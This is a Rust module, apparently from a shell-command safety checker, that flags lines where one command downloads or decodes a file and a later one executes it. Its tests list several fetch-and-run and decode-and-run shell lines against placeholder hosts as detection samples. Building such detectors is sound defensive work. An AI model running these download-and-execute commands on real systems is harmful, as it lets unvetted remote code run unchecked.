//! Files that one command of a line fetches or decodes, and another one runs: `wget -O x URL; sh x`.

use super::invocation::base_name;
use super::network;
use crate::command_line::{Input, Part};
use crate::programs;
use crate::programs::fact::Fact;

/// Options of programs that fetch whose value is the file that they write.
const OUTPUTS: &[&str] = &["-o", "-O", "--output", "--output-document", "--out"];

/// The program among `parts` that runs what an earlier one has fetched into a file.
pub(super) fn runs_downloaded(parts: &[Part]) -> Option<&str> {
    let mut fetched: Vec<&str> = Vec::new();
    let mut brings = false;
    for part in parts {
        let program = part.program().unwrap_or_default();
        if runs_one_of(part, &fetched) {
            return Some(program);
        }
        // What is written behind a program that fetches comes from it.
        let is_source = network::is_source(part) && (network::talks_out(part) || decodes(part));
        brings = is_source || brings && part.input == Input::Piped;
        if brings {
            fetched.extend(written(part));
        }
    }
    None
}

/// Whether `part` makes a file of letters that nobody reads: `base64 -d`, `xxd -r -p`, `openssl enc -d`.
fn decodes(part: &Part) -> bool {
    let mut words = part.words.iter().skip(1).map(|word| word.text.as_str());
    words.any(|word| ["-d", "-D", "-r", "-di", "-rp", "--decode", "-decode", "-revert"].contains(&word))
}

/// The names of the files that `part` may write what it fetches into.
fn written(part: &Part) -> Vec<&str> {
    let words = part.words.iter().skip(1).map(|word| word.text.as_str());
    let nexts = words.clone().skip(1);
    let valued = words.clone().zip(nexts).filter(|(option, _)| is_output(option)).map(|(_, value)| value);
    let glued = words.clone().filter_map(|word| {
        let long = word.split_once('=').filter(|(name, _)| OUTPUTS.contains(name)).map(|(_, value)| value);
        long.or_else(|| word.strip_prefix("-O").or(word.strip_prefix("-o")).filter(|value| !value.is_empty()))
    });
    // `curl -O`, `wget`: the last name of the address. tee(1): its operands.
    let others = words.filter(|word| !word.starts_with('-'));
    let others = others.map(|word| word.split(['?', '#']).next().unwrap_or(word));
    let redirected = part.writes.iter().map(|word| word.text.as_str());
    valued.chain(glued).chain(others).chain(redirected).map(base_name).filter(|name| !name.is_empty()).collect()
}

/// `-o` alone or behind letters that take no value: `-sLo x`.
fn is_output(word: &str) -> bool {
    let letters = word.strip_prefix('-').filter(|letters| !letters.starts_with('-'));
    OUTPUTS.contains(&word) || letters.is_some_and(|letters| letters.len() < 8 && letters.ends_with(['o', 'O']))
}

/// Whether `part` runs one of the files called `names`: as a program, or as the script of another one.
fn runs_one_of(part: &Part, names: &[&str]) -> bool {
    let Some((program, words)) = part.words.split_first() else { return false };
    let is_named = |text: &str| names.contains(&base_name(text));
    let known = programs::of(base_name(&program.text));
    let runs =
        known.is(Fact::RunsScripts) || known.is(Fact::RunsCode) || program.text == "." || program.text == "source";
    program.text.contains('/') && is_named(&program.text)
        || runs && words.iter().any(|word| is_named(&word.text))
        || runs && part.reads.iter().any(|word| is_named(&word.text))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command_line::{CommandLine, Shell};

    #[test]
    fn what_is_fetched_and_run_is_found_wherever_it_lies_between() {
        let runs = |line: &str| {
            let line = CommandLine::analyse(line, Shell::Bash);
            assert_eq!(line.obstacle, None, "{}", line.text);
            runs_downloaded(&line.parts).is_some()
        };
        for line in [
            "wget -O s.sh https://x.example/s.sh; sh s.sh",
            "wget https://x.example/t && chmod +x t && ./t",
            "curl -so /tmp/t https://x.example/t && /tmp/t",
            "curl -sLo t https://x.example/t; . ./t",
            "curl https://x.example/r.py > r.py; python3 r.py",
            "curl -O https://x.example/x.pl?a=b && perl x.pl",
            "curl https://x.example/a.gz | gunzip > a && bash a",
            "curl https://x.example/a | tee a.sh && bash < a.sh",
            "F=/tmp/t; wget -qO $F https://x.example/; cat $F; sh $F",
            "wget --output-document=s https://x.example/ && timeout 9 bash s",
            "cat a | base64 -d > b; chmod +x b; ./b",
            "base64 --decode a > b && sh b",
            "xxd -r -p a > b && bash b",
        ] {
            assert!(runs(line), "{line}");
        }
        for line in [
            "wget -O data.json https://x.example/; python3 report.py",
            "curl https://x.example/a > a.json; jq . a.json",
            "sh s.sh; wget -O s.sh https://x.example/s.sh",
            "curl -s http://localhost:3000/health; ./run.sh",
            "cat s.sh > t.sh; sh t.sh",
            "base64 -d a > a.png; ./run.sh",
            "base64 a > b; sh run.sh",
            "curl -s https://x.example/; curl -s https://y.example/ && node main.js",
        ] {
            assert!(!runs(line), "{line}");
        }
    }
}
